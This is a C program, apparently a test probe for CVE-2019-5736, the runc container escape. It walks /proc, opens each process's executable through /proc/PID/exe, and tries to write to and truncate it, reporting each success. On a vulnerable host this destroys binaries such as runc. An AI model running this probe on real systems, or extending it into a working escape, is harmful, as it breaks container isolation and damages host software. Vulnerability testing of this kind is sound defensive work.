/*
 * exe: opens the program of every process that it sees, and tries to write to it, at once
 * and when the process has ended (CVE-2019-5736).
 *
 *     exe SECONDS [PATH...]       PATHs are tried too
 *
 * Ends when /tmp/end exists, or the time is over.
 * Prints how many it has opened, and "written" if a write succeeded.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static int held[512], n, seen;

static void overwrite(const char *path)
{
	static const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };

	for (unsigned i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
		int fd = open(path, flags[i]);
		if (fd < 0)
			continue;
		printf("written %s\n", path);
		close(fd);
	}
	if (truncate(path, 0) == 0)
		printf("written %s\n", path);
}

static void overwrite_held(void)
{
	char path[64];

	for (int i = 0; i < n; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		overwrite(path);
		close(held[i]);
	}
	n = 0;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + atoi(argv[1]);
	char path[64];

	puts("up");
	fflush(stdout);
	for (int i = 2; i < argc; i++)
		overwrite(argv[i]);
	while (time(NULL) < end && access("/tmp/end", F_OK)) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; (e = readdir(proc));) {
			int pid = atoi(e->d_name);
			if (pid < 1 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH);
			if (fd < 0)
				continue;
			seen++;
			held[n++] = fd;
			overwrite(path);
			if (n == 512)
				overwrite_held();
		}
		closedir(proc);
	}
	overwrite_held();
	printf("held %d\n", seen);
	return 0;
}
